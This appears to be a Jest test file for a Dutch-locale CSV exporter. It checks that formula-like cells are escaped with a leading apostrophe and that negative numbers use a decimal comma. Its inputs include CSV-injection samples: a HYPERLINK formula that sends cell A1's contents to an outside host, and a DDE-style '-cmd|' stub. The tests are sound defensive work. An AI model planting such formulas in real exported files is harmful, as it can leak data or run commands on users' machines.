import Papa from 'papaparse';
import { dutchCsv } from '../../src/core/export/csv';

function cellsOf(csv: string): string[][] {
  return Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ';', skipEmptyLines: true }).data;
}

describe('dutchCsv', () => {
  it('writes text that Excel would run as a formula with a leading apostrophe, so it stays text', () => {
    const titel = '=HYPERLINK("https://example.org/?"&A1,"klik")';
    const csv = dutchCsv({ headers: ['id', 'titel_a', 'eigenaar_a', 'notitie', 'contact'], rows: [['MK-W1-W2', titel, '@SUM(1+1)', '+31 6 1234', '-cmd|x']] });
    const [, row] = cellsOf(csv);
    expect(row).toEqual(['MK-W1-W2', `'${titel}`, "'@SUM(1+1)", "'+31 6 1234", "'-cmd|x"]);
  });

  it('keeps negative numbers as numbers with a decimal comma', () => {
    const [, row] = cellsOf(dutchCsv({ headers: ['besparing_eur', 'tekst'], rows: [[-1250.5, '-12,5']] }));
    expect(row).toEqual(['-1250,5', '-12,5']);
  });
});
